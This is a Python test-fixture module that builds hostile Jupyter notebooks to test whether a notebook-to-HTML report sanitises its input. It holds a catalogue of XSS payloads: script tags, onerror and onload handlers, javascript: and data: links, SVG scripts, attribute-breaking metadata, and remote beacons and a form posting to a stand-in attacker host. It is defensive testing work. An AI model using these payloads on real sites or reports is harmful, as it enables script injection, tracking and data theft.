"""The report's corpus: executed notebooks that attack the person who opens report.html.

Each entry is one attack, written into a notebook the way it would come back from the sandbox
(cells with their outputs, as nbformat nodes that pass validation). Every payload tries to show
that it ran (PAYLOAD: an alert, a changed title, a marker element, a console message) or that it
loaded something (a URL on REMOTE, a host that never resolves). `keep` is text the report must
still show; `nbconvert_lets_through` says whether nbconvert's own HTML of the cells (no
make_inert, no sanitiser) holds the attack, which the tests use to show that their checks can
fail. `benign()` is a notebook with every kind of content a report must keep;
`executable_cells()` are hostile cells for a notebook that really runs.
"""
import base64
import struct
import zlib
from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

TITLE = "PWNED"
MARKER_ID = "pwned"
# No spaces: it must survive being an unquoted attribute value.
PAYLOAD = (f"document.title='{TITLE}';console.log('{TITLE}');"
           f"document.documentElement.appendChild(document.createElement('p')).id='{MARKER_ID}';"
           f"alert('{TITLE}')")
REMOTE = "https://attacker.invalid"  # .invalid never resolves (RFC 6761)


def png_base64(width=4, height=3, rgb=(200, 30, 30)):
    """A valid PNG of one colour, base64-encoded as notebooks store it."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    png = (b"\x89PNG\r\n\x1a\n"
           + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
    return base64.b64encode(png).decode()


FIGURE = png_base64(40, 30, (31, 119, 180))
JPEG_STANDIN = png_base64()  # a PNG labelled JPEG: browsers sniff images, so onload still fires
SVG_WITH_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'width="20" height="20" onload="{PAYLOAD}"><script>{PAYLOAD}</script>'
    f'<image href="{REMOTE}/svg-image.png" width="10" height="10"/>'
    f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{REMOTE}/svg-frame">'
    '</iframe></foreignObject><circle cx="10" cy="10" r="8" fill="teal"/></svg>')
WIDTH_INJECTION = f"1 onload={PAYLOAD}//"
HANDLER_HTML = f'<img src="x" onerror="{PAYLOAD}">'
ANSI_HTML = f"\x1b[0;31mValueError\x1b[0m: </pre><script>{PAYLOAD}</script>"
HTML_ATTACKS = (
    f'<script>{PAYLOAD}</script>'
    f'{HANDLER_HTML}<img src="{REMOTE}/html-output.png">'
    f'<link rel="stylesheet" href="{REMOTE}/html-output.css">'
    f'<div style="background:url({REMOTE}/html-output-bg.png)">styled</div>')


@dataclass
class Entry:
    name: str
    attack: str
    notebook: nbformat.NotebookNode
    keep: list = field(default_factory=list)
    nbconvert_lets_through: bool = True


def markdown(*cells):
    """A notebook of markdown cells."""
    return new_notebook(cells=[new_markdown_cell(text) for text in cells])


def outputs(*outs, source="show()", metadata=None):
    """A notebook of one executed code cell with `outs`."""
    cell = new_code_cell(source, execution_count=1, outputs=list(outs))
    return new_notebook(cells=[cell], metadata=metadata or {})


def display(data, metadata=None):
    return new_output("display_data", data=data, metadata=metadata or {})


def html_output(text):
    return display({"text/html": text, "text/plain": "<IPython.core.display.HTML object>"})


def entries():
    """Every attack, one notebook each."""
    widget_state = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"m1": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                         "model_module_version": "2.0.0",
                         "state": {"value": f"</script><script>{PAYLOAD}</script>"}}}}}
    attachment_cell = new_markdown_cell(
        "An answer with its figures: ![fig](attachment:fig.png) ![page](attachment:page.html) "
        "![broken](attachment:broken.png)")
    attachment_cell.attachments = {
        "fig.png": {"image/png": FIGURE},
        "page.html": {"text/html": f"<script>{PAYLOAD}</script>"},
        "broken.png": {"image/png": f'x" onerror="{PAYLOAD}'},
    }
    missing_attachment = new_markdown_cell(
        "![fig](attachment:fig.png) ![gone](attachment:gone.png)")
    missing_attachment.attachments = {"fig.png": {"image/png": FIGURE}}
    raw_html = new_raw_cell(f"<script>{PAYLOAD}</script><img src=x onerror=\"{PAYLOAD}\">"
                            f"<img src=\"{REMOTE}/raw-cell.png\">raw cell text",
                            metadata={"raw_mimetype": "text/html"})
    raw_plain = new_raw_cell(f"<script>{PAYLOAD}</script>")
    tagged = new_code_cell("x = 1", execution_count=1,
                           metadata={"tags": [f'a" onmouseover="{PAYLOAD}" x="']})
    return [
        Entry("image_metadata_width_height",
              "width/height metadata of PNG and JPEG outputs closes the attribute: onload/onerror",
              outputs(display({"image/png": FIGURE}, {"image/png": {
                          "width": WIDTH_INJECTION, "height": f"1 onerror={PAYLOAD}//"}}),
                      display({"image/jpeg": JPEG_STANDIN}, {
                          "width": WIDTH_INJECTION,
                          "image/jpeg": {"height": f'1" onerror="{PAYLOAD}'}})),
              keep=["data:image/png;base64," + FIGURE]),
        Entry("image_metadata_filenames",
              "output metadata 'filenames' makes nbconvert load the image from a URL",
              outputs(display({"image/png": FIGURE},
                              {"filenames": {"image/png": f"{REMOTE}/filenames.png"}}))),
        Entry("markdown_javascript_link", "javascript: links in markdown, plain and disguised",
              markdown(f"[click here](javascript:{PAYLOAD}) "
                       f"[or here](JaVaScRiPt:{PAYLOAD}) [and here]( javascript:alert(1))",
                       "<javascript:alert(1)> [ref][r]\n\n[r]: javascript:alert(1)"),
              keep=["click here", "or here"]),
        Entry("markdown_data_html_link", "a data:text/html link in markdown",
              markdown("[open me](data:text/html;base64,"
                       + base64.b64encode(f"<script>{PAYLOAD}</script>".encode()).decode() + ")"),
              keep=["open me"]),
        Entry("markdown_vbscript_link", "a vbscript: link in markdown",
              markdown("[old browsers](vbscript:msgbox(1))"), keep=["old browsers"]),
        Entry("markdown_remote_image", "markdown images from a remote host (a read receipt)",
              markdown(f"![beacon]({REMOTE}/beacon.png) ![ref][b]\n\n[b]: {REMOTE}/ref.png",
                       "![protocol-relative](//attacker.invalid/relative.png)"),
              keep=["beacon"]),
        Entry("markdown_remote_css", "stylesheets from a remote host in markdown",
              markdown(f'<link rel="stylesheet" href="{REMOTE}/markdown.css">',
                       f"<style>@import url({REMOTE}/import.css);</style>")),
        Entry("html_output_remote_loads", "remote images and CSS in a text/html output",
              outputs(html_output(f'<img src="{REMOTE}/out.png">'
                                  f'<link rel="stylesheet" href="{REMOTE}/out.css">'
                                  f'<video src="{REMOTE}/v.mp4"></video>'))),
        Entry("script_tag", "<script> in markdown and in an HTML output",
              new_notebook(cells=[
                  new_markdown_cell(f"Answer: <script>{PAYLOAD}</script> done"),
                  new_code_cell("show()", execution_count=1,
                                outputs=[html_output(f"<script>{PAYLOAD}</script>")])]),
              keep=["Answer:", f"<script>{PAYLOAD}</script>"]),
        Entry("event_handlers", "inline event handlers on elements that fire by themselves",
              new_notebook(cells=[
                  new_markdown_cell(f'<img src="x" onerror="{PAYLOAD}"> '
                                    f'<details open ontoggle="{PAYLOAD}">d</details>'),
                  new_code_cell("show()", execution_count=1, outputs=[html_output(
                      f'<img src="x" onerror="{PAYLOAD}"><body onload="{PAYLOAD}">'
                      f'<details open ontoggle="{PAYLOAD}">d</details>'
                      f'<div onmouseover="{PAYLOAD}">hover</div>')])])),
        Entry("svg_onload", "an inline <svg onload> in markdown and in an HTML output",
              new_notebook(cells=[
                  new_markdown_cell(f'<svg onload="{PAYLOAD}"><circle r="5"/></svg>'),
                  new_code_cell("show()", execution_count=1, outputs=[
                      html_output(f'<svg onload="{PAYLOAD}"><circle r="5"/></svg>')])])),
        Entry("iframe", "an <iframe> with a remote source and one with srcdoc",
              outputs(html_output(f'<iframe src="{REMOTE}/frame"></iframe>'
                                  f'<iframe srcdoc="<script>{PAYLOAD}</script>"></iframe>'))),
        Entry("object_embed", "<object> and <embed> of remote content",
              outputs(html_output(f'<object data="{REMOTE}/object.swf"></object>'
                                  f'<embed src="{REMOTE}/embed.swf">'))),
        Entry("meta_refresh", "<meta http-equiv=refresh> that navigates away",
              outputs(html_output(f'<meta http-equiv="refresh" content="0;url={REMOTE}/away">'))),
        Entry("base_href", "<base href> that sends every relative URL to a remote host",
              outputs(html_output(f'<base href="{REMOTE}/"><img src="relative.png">'
                                  '<a href="relative.html">relative</a>'))),
        Entry("form", "a <form> that posts to a remote host, and a javascript: formaction",
              outputs(html_output(f'<form action="{REMOTE}/steal" method="post">'
                                  '<input name="grade" value="100"><button>Save</button>'
                                  f'<button formaction="javascript:{PAYLOAD}">Go</button>'
                                  '</form>'))),
        Entry("style_import", "<style>@import url(...)</style> and a remote background",
              outputs(html_output(f"<style>@import url({REMOTE}/import.css);"
                                  f"body {{ background: url({REMOTE}/bg.png) }}</style>"))),
        Entry("style_attribute_url", 'style="background:url(https://...)" on an element',
              outputs(html_output(f'<div style="background:url({REMOTE}/style-attr.png)">x</div>'
                                  f'<p style="list-style-image:url({REMOTE}/bullet.png)">y</p>'))),
        Entry("svg_output_with_script",
              "an image/svg+xml output with a script, an onload, a remote image and an iframe",
              outputs(display({"image/svg+xml": SVG_WITH_SCRIPT, "text/plain": "<Figure>"})),
              nbconvert_lets_through=False),  # nbconvert's lab template already puts it in <img>
        Entry("html_output", "a text/html output with scripts, handlers and remote loads",
              outputs(html_output(HTML_ATTACKS))),
        Entry("javascript_output", "an application/javascript output",
              outputs(display({"application/javascript": PAYLOAD, "text/plain": "<Javascript>"}))),
        Entry("markdown_and_latex_outputs", "text/markdown and text/latex outputs with links",
              outputs(display({"text/markdown": f"[x](javascript:{PAYLOAD}) ![]({REMOTE}/md.png)"}),
                      display({"text/latex": r"$\href{javascript:alert(1)}{x}$"}))),
        Entry("raw_cells", "raw cells, one marked text/html, one plain",
              new_notebook(cells=[raw_html, raw_plain]), keep=["raw cell text"],
              nbconvert_lets_through=False),  # nbconvert cleans raw HTML cells with bleach
        Entry("markdown_attachments",
              "markdown attachments: a text/html one and a PNG whose data closes the attribute",
              new_notebook(cells=[attachment_cell]), keep=["data:image/png;base64," + FIGURE]),
        Entry("missing_attachment",
              "a link to an attachment the cell lacks, beside one it has (nbconvert raises)",
              new_notebook(cells=[missing_attachment]), keep=["data:image/png;base64," + FIGURE],
              nbconvert_lets_through=False),
        Entry("source_closes_script",
              "a code cell and its output that hold </script><script>",
              outputs(new_output("execute_result", execution_count=1, data={
                          "text/plain": f"'</script><script>{PAYLOAD}</script>'"}),
                      source=f"'</script><script>{PAYLOAD}</script>'"),
              keep=["</script><script>"], nbconvert_lets_through=False),
        Entry("widget_state", "widget state in the notebook's metadata and a widget view output",
              outputs(display({"application/vnd.jupyter.widget-view+json": {
                          "version_major": 2, "version_minor": 0,
                          "model_id": f"</script><script>{PAYLOAD}</script>"},
                          "text/plain": "HTML(value='')"}),
                      metadata={"widgets": widget_state}),
              nbconvert_lets_through=False),  # the state is in the page's footer, not a cell
        Entry("notebook_metadata_html", "HTML in the notebook's title, kernelspec and language",
              outputs(new_output("stream", name="stdout", text="ran"), metadata={
                  "title": f"</title><script>{PAYLOAD}</script>",
                  "kernelspec": {"name": "python3", "language": "python",
                                 "display_name": f"<img src=x onerror=\"{PAYLOAD}\">"},
                  "language_info": {"name": f"python\"><script>{PAYLOAD}</script>",
                                    "pygments_lexer": "html"}}),
              keep=["ran"], nbconvert_lets_through=False),
        Entry("error_traceback", "an error whose name, value and traceback carry ANSI and HTML",
              outputs(new_output(
                  "error", ename=f"<script>{PAYLOAD}</script>",
                  evalue=HANDLER_HTML,
                  traceback=[ANSI_HTML,
                             f"\x1b[38;2;1;2;3m<img src=x onerror=\"{PAYLOAD}\">\x1b[0m",
                             f"\x1b]8;;javascript:{PAYLOAD}\x1b\\link\x1b]8;;\x1b\\"])),
              keep=["ValueError"], nbconvert_lets_through=False),
        Entry("markdown_latex",
              "LaTeX whose \\text holds HTML (latex2mathml leaves it unescaped), an \\href and a style",
              markdown(f"Inline $\\text{{<img/src=x/onerror={PAYLOAD}>}}$ and "
                       f"$\\href{{javascript:{PAYLOAD}}}{{x}}$ then "
                       f"$$\\style{{background:url({REMOTE}/latex.png)}}{{y}} + \\frac{{1}}{{N}}$$",
                       "A <math><mi href=\"javascript:alert(1)\">raw</mi></math> MathML tag"),
              keep=["<mfrac>"], nbconvert_lets_through=False),  # nbconvert leaves LaTeX as text
        Entry("cell_tags", "a cell tag that closes the class attribute",
              new_notebook(cells=[tagged]), nbconvert_lets_through=False),
    ]


def benign():
    """A notebook with everything a report must keep: heading, table, code, a figure."""
    cells = [
        new_markdown_cell("# Results\n\nThe loss falls as training goes on.\n\n"
                          "| iterations | loss |\n|---|---|\n| 100 | 2.30 |\n| 1000 | 0.41 |\n\n"
                          "See [the course page](https://example.edu/course) or "
                          "[the summary](#Results)."),
        new_code_cell("import math\nfor step in range(2):\n    print(math.pi * step)",
                      execution_count=1,
                      outputs=[new_output("stream", name="stdout",
                                          text="0.0\n3.141592653589793\n")]),
        new_code_cell("plt.plot(losses)", execution_count=2, outputs=[
            new_output("execute_result", execution_count=2,
                       data={"text/plain": "[<matplotlib.lines.Line2D at 0x7f>]"}),
            display({"image/png": FIGURE, "text/plain": "<Figure size 640x480 with 1 Axes>"},
                    {"image/png": {"width": 400, "height": 300}})]),
    ]
    return new_notebook(cells=cells, metadata={
        "kernelspec": {"name": "python3", "language": "python", "display_name": "Python 3"}})


def executable_cells():
    """Hostile cells for a notebook that really runs: (markdown or code, source) pairs."""
    return [
        ("markdown", (f"## Answers\n[click](javascript:{PAYLOAD}) ![]({REMOTE}/md.png) "
                      f"<script>{PAYLOAD}</script>")),
        ("code", ("from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
                  f"display(HTML({HTML_ATTACKS!r}))\n"
                  f"display(Javascript({PAYLOAD!r}))\n"
                  f"display(SVG({SVG_WITH_SCRIPT!r}))\n"
                  f"display(Markdown('[x](javascript:alert(1)) ![]({REMOTE}/out-md.png)'))")),
        ("code", (f"display({{'image/png': {FIGURE!r}}}, raw=True, "
                  f"metadata={{'image/png': {{'width': {WIDTH_INJECTION!r}}}}})")),
        ("code", f"print({ANSI_HTML!r})"),
        ("code", f"raise ValueError({HANDLER_HTML!r})"),
    ]
